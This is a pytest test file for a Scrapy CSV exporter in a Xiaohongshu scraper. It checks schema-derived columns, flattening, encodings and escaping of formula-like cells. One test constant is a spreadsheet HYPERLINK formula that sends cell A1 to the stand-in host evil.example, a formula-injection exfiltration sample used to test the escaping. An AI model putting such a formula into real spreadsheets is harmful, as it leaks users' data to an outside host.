"""SpreadsheetCsvItemExporter on its own: columns from the schemas, flattening, encodings.

How its files look through FEEDS is tested in test_feedexport.py.
"""

from __future__ import annotations

import codecs
import copy
import csv
import io

import pytest
from scrapy.utils.misc import build_from_crawler
from scrapy.utils.test import get_crawler

from tests.items import TITLES, note
from xhs_spider.csv_cells import cell_text
from xhs_spider.exporters import SpreadsheetCsvItemExporter, csv_columns
from xhs_spider.items import NoteItem
from xhs_spider.schemas import load_schema

BOM = codecs.BOM_UTF8


# Columns ---------------------------------------------------------------------


def test_note_columns_follow_the_schema():
    columns = csv_columns(load_schema("note"))
    assert columns[:6] == ["note_id", "url", "type", "title", "text", "hashtags"]
    assert columns[6:11] == ["images.file_id", "images.url", "images.original_url",
                             "images.width", "images.height"]
    expected = {"video.duration", "author.nickname", "counts.likes", "counts.follows"}
    assert expected <= set(columns)
    assert columns[-5:] == ["published_at", "updated_at", "crawled_at", "request_id", "endpoint"]


def test_feed_appearance_columns_follow_the_schema():
    columns = csv_columns(load_schema("feed_appearance"))
    assert columns[:5] == ["note_id", "channel", "page", "position", "crawled_at"]
    expected = {"author.nickname", "cover.url", "cover.file_id", "likes_text"}
    assert expected <= set(columns)
    assert columns[-1] == "published_at"


def test_columns_resolve_refs_and_survive_recursive_schemas():
    schema = {
        "definitions": {"comment": {"type": "object", "properties": {
            "text": {"type": "string"},
            "replies": {"type": "array", "items": {"$ref": "#/definitions/comment"}},
        }}},
        "properties": {
            "comments": {"type": "array", "items": {"$ref": "#/definitions/comment"}},
        },
    }
    assert csv_columns(schema) == ["comments.text", "comments.replies"]


# The exporter on its own -----------------------------------------------------


def test_items_without_schema_are_flattened_in_first_item_order():
    output = io.BytesIO()
    exporter = SpreadsheetCsvItemExporter(output, encoding="utf-8")
    exporter.start_exporting()
    exporter.export_item({"id": 1, "ok": True, "who": {"name": "小红"},
                          "tags": ["a", "b"], "pics": [{"u": "x"}, {"u": "y", "w": 2}]})
    exporter.export_item({"id": 2, "ok": False, "extra": "dropped"})
    exporter.finish_exporting()
    content = output.getvalue()
    assert content.count(BOM) == 1
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
        ["id", "ok", "who.name", "tags", "pics.u", "pics.w"],
        ["1", "true", "小红", "a | b", "x | y", " | 2"],
        ["2", "false", "", "", "", ""],
    ]


def test_unknown_encoding_names_the_setting():
    with pytest.raises(ValueError, match="FEED_EXPORT_ENCODING"):
        SpreadsheetCsvItemExporter(io.BytesIO(), encoding="no-such-codec")


def test_items_are_not_changed_by_exporting():
    item = NoteItem(note(9, TITLES[1]))
    before = copy.deepcopy(dict(item))
    exporter = SpreadsheetCsvItemExporter(io.BytesIO())
    exporter.export_item(item)
    assert dict(item) == before


# Formulas --------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(("value", "cell"), [
    (FORMULA, "'" + FORMULA), ("+1 800", "'+1 800"), ("-hi", "'-hi"), ("@sum", "'@sum"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain = text", "plain = text"), ("", ""),
    (-3, "-3"), (-2.5, "-2.5"), (None, ""), ([-1, 2], "-1 | 2"), (["=a", "b"], "'=a | b"),
    (["a", "=b"], "a | =b"), ({"k": "=v"}, '{"k": "=v"}'),
])
def test_text_cells_starting_like_a_formula_get_a_quote_numbers_do_not(value, cell):
    assert cell_text(value) == cell
    quoted = cell.startswith("'")
    assert cell_text(value, raw_text=True) == (cell[1:] if quoted else cell)


@pytest.mark.parametrize(("settings", "title"), [({}, "'" + FORMULA), ({"XHS_CSV_RAW_TEXT": "true"}, FORMULA)])
def test_the_exporter_scrapy_builds_follows_xhs_csv_raw_text(settings, title):
    file = io.BytesIO()
    # As FeedExporter builds it for crawl -O x.csv.
    exporter = build_from_crawler(SpreadsheetCsvItemExporter, get_crawler(settings_dict=settings), file)
    exporter.start_exporting()
    exporter.export_item(NoteItem(note(1, FORMULA, counts={"likes": -3})))
    exporter.finish_exporting()
    (row,) = csv.DictReader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline=""))
    assert (row["title"], row["counts.likes"]) == (title, "-3")


@pytest.mark.parametrize(("item_class", "content"), [
    (None, b""), ("xhs_spider.items.NoteItem", BOM + ",".join(csv_columns(load_schema("note"))).encode() + b"\r\n"),
])
def test_a_file_of_a_known_item_class_gets_its_header_without_items(item_class, content):
    file = io.BytesIO()
    exporter = SpreadsheetCsvItemExporter(file, item_class=item_class)
    exporter.start_exporting()
    exporter.finish_exporting()
    assert file.getvalue() == content
